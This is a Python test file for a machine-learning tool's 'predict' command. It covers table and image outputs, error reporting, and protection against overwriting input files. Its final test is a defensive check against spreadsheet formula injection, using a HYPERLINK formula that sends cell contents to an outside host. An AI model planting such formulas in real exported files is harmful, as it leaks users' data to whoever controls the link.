import json
import shutil
from contextlib import nullcontext
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pyarrow import csv

from trainjob import Predictor
from trainjob.cli.predict import predict
from trainjob.errors import Notice, UserError


def test_texts_show_their_classes_best_first(text_run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    predict(str(text_run), text=["a cat [sat]", "the tree"])
    shown = capsys.readouterr().out
    predictor = Predictor.load(text_run)
    for text, row in zip(
        ["a cat [sat]", "the tree"], predictor.predict_proba(["a cat [sat]", "the tree"]), strict=True
    ):
        table = shown[shown.index(text) :]
        best, other = np.argsort(-row)
        assert table.index(f"{row[best]:.4f}") < table.index(f"{row[other]:.4f}")
        assert table.index(predictor.classes[best]) < table.index(predictor.classes[other])


def test_an_image_shows_its_classes(image_run: Path, image_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    image = str(image_folder / "dark" / "3.png")
    predict(str(image_run), image=[image])
    shown = capsys.readouterr().out
    assert "bright" in shown
    assert f"{Predictor.load(image_run).predict_proba([image]).max():.4f}" in shown


@pytest.mark.parametrize("name", ["texts.csv", "texts.jsonl", "texts.parquet"])
@pytest.mark.parametrize("output", ["out.csv", "out.parquet"])
def test_a_table_keeps_its_columns_and_gets_the_predictions(
    tmp_path: Path, text_run: Path, text_csv: Path, name: str, output: str, capsys: pytest.CaptureFixture[str]
) -> None:
    as_text = csv.ConvertOptions(column_types={"id": pa.string()})
    rows = csv.read_csv(text_csv, convert_options=as_text)
    if name == "texts.jsonl":
        lines = (json.dumps(row | {"nested": {"left": "out"}}) for row in rows.to_pylist())
        (tmp_path / name).write_text("\n".join(lines))
    if name == "texts.parquet":
        pq.write_table(rows.append_column("nested", pa.array([["left", "out"]] * len(rows))), tmp_path / name)

    left_out = pytest.warns(Notice, match="left out of the output, because they hold lists or objects: nested")
    with nullcontext() if name == "texts.csv" else left_out:
        predict(str(text_run), str(tmp_path / name), output=tmp_path / output)
    if output == "out.csv":
        found = csv.read_csv(tmp_path / output, convert_options=as_text)
    else:
        found = pq.read_table(tmp_path / output)

    predictor = Predictor.load(text_run)
    probabilities = predictor.predict_proba(rows)
    classes = ["probability_animal", "probability_plant"]
    assert found.column_names == ["id", "title", "body", "tag", "prediction", "probability", *classes]
    assert found.select(rows.column_names).to_pylist() == rows.to_pylist(), "007 stays 007"
    assert found["prediction"].to_pylist() == predictor.predict(rows)
    np.testing.assert_allclose(found["probability"], probabilities.max(axis=1), rtol=1e-5)
    np.testing.assert_allclose(np.stack([found[name] for name in classes], axis=1), probabilities, rtol=1e-5)
    assert f"40 predictions written to {tmp_path / output}" in capsys.readouterr().out
    assert not list(tmp_path.glob(".out*")), "no partial file is left"


def test_all_rows_that_cannot_be_predicted_are_told(
    tmp_path: Path, text_run: Path, text_csv: Path, image_run: Path, image_folder: Path
) -> None:
    output, rows = tmp_path / "out.csv", tmp_path / "rows.csv"
    rows.write_text(text_csv.read_text() + "\n".join(["only one value"] * 7))
    with pytest.raises(UserError) as error:
        predict(str(text_run), str(rows), output=output)
    assert str(error.value).startswith(f"{rows}: 7 rows cannot be used\n  7 rows: the row does not have ")
    assert f"{rows}, row 41" in str(error.value)
    assert str(error.value).endswith("and 2 more\nCorrect these rows.")
    images = shutil.copytree(image_folder, tmp_path / "broken")
    for name in ("bright/0.png", "dark/3.png"):
        (images / name).write_bytes(b"broken")
    with pytest.raises(UserError) as error:
        predict(str(image_run), str(images), output=output)
    said = str(error.value)
    assert said.startswith(f"{images}: 2 rows cannot be used\n  2 rows: not a valid image file: ")
    assert f"{images}/bright/0.png" in said
    assert f"{images}/dark/3.png" in said
    assert not output.exists()


def test_predictions_in_the_table_are_replaced(tmp_path: Path, text_run: Path, text_csv: Path) -> None:
    once, twice = tmp_path / "once.csv", tmp_path / "twice.csv"
    predict(str(text_run), str(text_csv), output=once)
    predict(str(text_run), str(once), output=twice)
    assert twice.read_text() == once.read_text()


def test_an_image_folder_becomes_a_table_of_its_files(tmp_path: Path, image_run: Path, image_folder: Path) -> None:
    predict(str(image_run), str(image_folder), output=tmp_path / "out.csv")
    found = csv.read_csv(tmp_path / "out.csv")
    assert found.column_names == [
        "label",
        "image",
        "prediction",
        "probability",
        "probability_bright",
        "probability_dark",
    ]
    paths = found["image"].to_pylist()
    assert sorted(paths) == sorted(map(str, image_folder.glob("*/*.png")))
    assert found["prediction"].to_pylist() == Predictor.load(image_run).predict(paths)


def test_images_need_no_labels(tmp_path: Path, image_run: Path, image_folder: Path) -> None:
    output, loose = tmp_path / "out.csv", tmp_path / "loose"
    shutil.copytree(image_folder / "dark", loose)
    predict(str(image_run), str(loose), output=output)
    found = csv.read_csv(output)
    assert found.column_names[:2] == ["image", "prediction"]
    assert sorted(found["image"].to_pylist()) == sorted(map(str, loose.glob("*.png")))
    shutil.copytree(image_folder / "bright", loose / "bright")
    predict(str(image_run), str(loose), output=output)
    assert sorted(csv.read_csv(output)["label"].to_pylist()) == [""] * 10 + ["bright"] * 10


def test_json_lines_may_differ(tmp_path: Path, text_run: Path) -> None:
    data, output = tmp_path / "rows.jsonl", tmp_path / "out.csv"
    lines = [
        '{"title": "x", "body": "a cat", "n": 1}',
        '{"title": 2, "body": null, "n": "b", "late": 1180591620717411303424}',
    ]
    data.write_text("\n".join(lines))
    predict(str(text_run), str(data), output=output)
    found = csv.read_csv(output, convert_options=csv.ConvertOptions(column_types={"n": "string", "late": "string"}))
    assert found["n"].to_pylist() == ["1", "b"]
    assert found["late"].to_pylist() == ["", "1180591620717411303424"]
    data.write_text('{"title": "x", "body": ["a cat"]}')
    with pytest.raises(UserError, match=r'line 1: "body" contains list, not text'):
        predict(str(text_run), str(data), output=output)


def test_progress_is_shown(
    text_run: Path, text_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("trainjob.cli.predicted_tables.SECONDS_BETWEEN_LINES", 0.0)
    predict(str(text_run), str(text_csv), output=tmp_path / "out.csv")
    assert capsys.readouterr().err == "40 rows predicted\n"


def test_several_files_must_have_the_same_columns(tmp_path: Path, text_run: Path) -> None:
    folder = tmp_path / "several"
    folder.mkdir()
    (folder / "1.csv").write_text("title,body,more\nx,a cat,1\n")
    (folder / "2.csv").write_text("title,body\nx,a dog\n")
    with pytest.raises(UserError, match=r"cannot write .*out\.csv: .*more"):
        predict(str(text_run), str(folder), output=tmp_path / "out.csv")
    assert sorted(tmp_path.glob("*out*")) == []


def test_the_rows_to_predict_are_never_replaced(tmp_path: Path, text_run: Path, text_csv: Path) -> None:
    folder = tmp_path / "rows"
    folder.mkdir()
    rows = folder / "rows.csv"
    rows.write_bytes(text_csv.read_bytes())
    (tmp_path / "linked.csv").symlink_to(rows)
    (tmp_path / "linked").symlink_to(folder)
    for data in (str(rows), str(folder), f"file://{rows}", str(folder / "*.csv"), str(tmp_path / "linked.csv")):
        for output in (rows, tmp_path / "linked.csv", tmp_path / "linked" / "rows.csv"):
            with pytest.raises(UserError, match=r"would overwrite the input .*: choose another name"):
                predict(str(text_run), data, output=output)
    assert rows.read_bytes() == text_csv.read_bytes()
    assert (tmp_path / "linked.csv").is_symlink()
    other = folder / "others.csv"
    predict(str(text_run), str(rows), output=other)
    with pytest.raises(UserError, match="would overwrite"):
        predict(str(text_run), str(folder), output=other)


def test_what_does_not_fit_together_is_said(tmp_path: Path, text_run: Path, image_run: Path, text_csv: Path) -> None:
    with pytest.raises(UserError, match="give one of DATA, --text, --image and --row"):
        predict(str(text_run))
    with pytest.raises(UserError, match="give one of DATA, --text, --image and --row"):
        predict(str(text_run), str(text_csv), text=["a cat"])
    with pytest.raises(UserError, match=r"text-run is a model for texts and takes no --image: give --.* or DATA"):
        predict(str(text_run), image=["cat.png"])
    with pytest.raises(UserError, match=r"image-run is a model for images and takes no --text: give --image or DATA"):
        predict(str(image_run), text=["a cat"])
    with pytest.raises(UserError, match=r"out\.xlsx: must end in \.csv or \.parquet"):
        predict(str(text_run), str(text_csv), output=tmp_path / "out.xlsx")
    with pytest.raises(UserError, match=r"cannot write .*missing/out\.csv"):
        predict(str(text_run), str(text_csv), output=tmp_path / "missing" / "out.csv")
    with pytest.raises(UserError, match=r"cannot write .*there is no folder .*texts\.csv"):
        predict(str(text_run), str(text_csv), output=text_csv / "out.csv")
    with pytest.raises(UserError, match=r"cannot write s3:/bucket/out\.csv: name a file on this machine"):
        predict(str(text_run), str(text_csv), output=Path("s3://bucket/out.csv"))
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(UserError, match=r"cannot write .*folder\.csv: it is a folder"):
        predict(str(text_run), str(text_csv), output=tmp_path / "folder.csv")
    with pytest.raises(UserError, match="none of the columns looks like images or their paths"):
        predict(str(image_run), str(text_csv), output=tmp_path / "out.csv")
    (tmp_path / "empty.csv").write_text("title,body\n")
    with pytest.raises(UserError, match=r"empty\.csv has no rows"):
        predict(str(text_run), str(tmp_path / "empty.csv"), output=tmp_path / "out.csv")


def test_predictions_of_hostile_texts_are_no_formulas_and_predict_the_same_again(
    tmp_path: Path, text_run: Path
) -> None:
    texts = ['=HYPERLINK("http://h?a="&A1,"a cat")', "'=the tree", "-5", "- a cat"]
    rows = pa.table({"title": ["@row"] * 4, "body": texts})
    pq.write_table(rows, tmp_path / "rows.parquet")
    predict(str(text_run), str(tmp_path / "rows.parquet"), output=tmp_path / "first.csv")
    written = csv.read_csv(tmp_path / "first.csv")["body"].to_pylist()
    assert written == ["'" + texts[0], "''=the tree", "-5", "'- a cat"]
    predict(str(text_run), str(tmp_path / "first.csv"), output=tmp_path / "second.csv")
    assert (tmp_path / "second.csv").read_bytes() == (tmp_path / "first.csv").read_bytes()
    predict(str(text_run), str(tmp_path / "first.csv"), output=tmp_path / "third.parquet")
    assert pq.read_table(tmp_path / "third.parquet").select(["title", "body"]).equals(rows)
